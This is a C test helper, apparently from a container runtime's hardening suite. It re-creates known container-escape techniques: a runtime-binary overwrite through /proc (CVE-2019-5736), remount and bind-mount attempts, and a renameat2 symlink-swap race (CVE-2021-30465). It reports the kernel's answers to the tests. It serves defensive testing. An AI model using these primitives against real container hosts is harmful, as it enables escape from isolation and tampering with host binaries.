/* Attacks on the runtime from inside a container, for the hardening tests. Each reports what the kernel
 * answered, never whether the attack "should" work: the test decides.
 *
 *   proc-attack          reads commands on stdin, one per line, and answers each with one JSON line:
 *     grab <pid>           opens what a process of the runtime exposes in /proc/<pid> (CVE-2019-5736,
 *                          CVE-2016-9962): exe (O_PATH, kept for `write`), every fd, cwd and root:
 *                          {"pid","exe":{"target","dev","ino"}|{"errno"},"fds":[{"fd","target"}]|{"errno"},
 *                           "cwd":{"target"}|{"errno"},"root":...}
 *     write                reopens the grabbed exe through /proc/self/fd/N for writing and writes to it,
 *                          as the CVE-2019-5736 exploit did once the runtime had exited:
 *                          {"open":"ok"|errno name,"write":"ok"|errno name|null}
 *   remount-try <target> [ro|rw]   MS_REMOUNT|MS_BIND, read-write by default: "ok" or the errno name
 *   bind-try <source> <target>     MS_BIND: "ok" or the errno name
 *   swap-loop <a> <b>    exchanges a and b with renameat2(RENAME_EXCHANGE) until killed, as the
 *                        CVE-2021-30465 exploit swapped a directory and a symlink under a runtime
 *                        setting up mounts; prints "swapping" once it has swapped once */
#include "json.h"
#include "testinit.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#define PWNED "BERTH-PWNED\n"

static const char *errno_name(int e)
{
  const char *name = strerrorname_np(e);
  return name ? name : "EUNKNOWN";
}

static void json_errno(int e)
{
  printf("{\"errno\":");
  json_string(errno_name(e));
  putchar('}');
}

/* The target of an fd of ours, as readlink(2) of /proc/self/fd/N shows it. */
static void fd_target(int fd, char *buf, size_t size)
{
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  ssize_t n = readlink(path, buf, size - 1);
  buf[n < 0 ? 0 : n] = '\0';
}

/* Opens /proc/<pid>/<name> with O_PATH and prints {"target"} (keeping the fd in *keep when asked) or
 * {"errno"}. */
static void grab_link(const char *pid, const char *name, int *keep)
{
  char path[64], target[PATH_MAX];
  snprintf(path, sizeof path, "/proc/%s/%s", pid, name);
  int fd = open(path, O_PATH | O_CLOEXEC);
  if (fd < 0) {
    json_errno(errno);
    return;
  }
  fd_target(fd, target, sizeof target);
  printf("{\"target\":");
  json_string(target);
  struct stat st;
  if (fstat(fd, &st) == 0)
    printf(",\"dev\":\"%u:%u\",\"ino\":%llu", major(st.st_dev), minor(st.st_dev), (unsigned long long)st.st_ino);
  putchar('}');
  if (keep)
    *keep = fd;
  else
    close(fd);
}

/* Every fd of the process that we can open, with its target as seen through our own fd. */
static void grab_fds(const char *pid)
{
  char path[64];
  snprintf(path, sizeof path, "/proc/%s/fd", pid);
  DIR *dir = opendir(path);
  if (!dir) {
    json_errno(errno);
    return;
  }
  putchar('[');
  int first = 1, denied = 0;
  for (struct dirent *d; (d = readdir(dir));) {
    if (d->d_name[0] == '.')
      continue;
    char name[64 + sizeof d->d_name], target[PATH_MAX];
    snprintf(name, sizeof name, "%s/%s", path, d->d_name);
    int fd = open(name, O_PATH | O_CLOEXEC);
    if (fd < 0) {
      denied = errno;
      continue;
    }
    fd_target(fd, target, sizeof target);
    close(fd);
    printf("%s{\"fd\":%s,\"target\":", first ? "" : ",", d->d_name);
    json_string(target);
    putchar('}');
    first = 0;
  }
  closedir(dir);
  putchar(']');
  if (denied) {
    printf(",\"fdsErrno\":");
    json_string(errno_name(denied));
  }
}

static void grab(const char *pid, int *exe)
{
  if (*exe >= 0)
    close(*exe);
  *exe = -1;
  printf("{\"pid\":");
  json_string(pid);
  printf(",\"exe\":");
  grab_link(pid, "exe", exe);
  printf(",\"fds\":");
  grab_fds(pid);
  printf(",\"cwd\":");
  grab_link(pid, "cwd", NULL);
  printf(",\"root\":");
  grab_link(pid, "root", NULL);
  printf("}\n");
}

static void write_exe(int exe)
{
  if (exe < 0) {
    printf("{\"open\":\"EBADF\",\"write\":null}\n");
    return;
  }
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", exe);
  int fd = open(path, O_WRONLY | O_CLOEXEC);
  if (fd < 0) {
    printf("{\"open\":");
    json_string(errno_name(errno));
    printf(",\"write\":null}\n");
    return;
  }
  ssize_t n = pwrite(fd, PWNED, strlen(PWNED), 0);
  int saved = errno;
  close(fd);
  printf("{\"open\":\"ok\",\"write\":");
  json_string(n == (ssize_t)strlen(PWNED) ? "ok" : n < 0 ? errno_name(saved) : "short");
  printf("}\n");
}

int cmd_proc_attack(char **argv)
{
  (void)argv;
  char line[256];
  int exe = -1;
  setvbuf(stdout, NULL, _IOLBF, 0); /* one answer per line, as soon as it is known */
  while (fgets(line, sizeof line, stdin)) {
    line[strcspn(line, "\n")] = '\0';
    if (strncmp(line, "grab ", 5) == 0)
      grab(line + 5, &exe);
    else if (strcmp(line, "write") == 0)
      write_exe(exe);
    else
      printf("{\"error\":\"unknown command\"}\n");
  }
  return 0;
}

/* "ok", or the errno name; exit status 0 or 1, as mount-try says it. */
static int report_mount(int r)
{
  printf("%s\n", r == 0 ? "ok" : errno_name(errno));
  return r == 0 ? 0 : 1;
}

int cmd_remount_try(char **argv)
{
  unsigned long flags = MS_REMOUNT | MS_BIND | (argv[1] && strcmp(argv[1], "ro") == 0 ? MS_RDONLY : 0);
  return report_mount(mount(NULL, argv[0], NULL, flags, NULL));
}

int cmd_bind_try(char **argv)
{
  return report_mount(mount(argv[0], argv[1], NULL, MS_BIND, NULL));
}

int cmd_swap_loop(char **argv)
{
  for (unsigned long n = 0;; n++) {
    if (renameat2(AT_FDCWD, argv[0], AT_FDCWD, argv[1], RENAME_EXCHANGE) < 0)
      return fail("renameat2", argv[0]);
    if (n == 0) {
      printf("swapping\n");
      fflush(stdout);
    }
  }
}
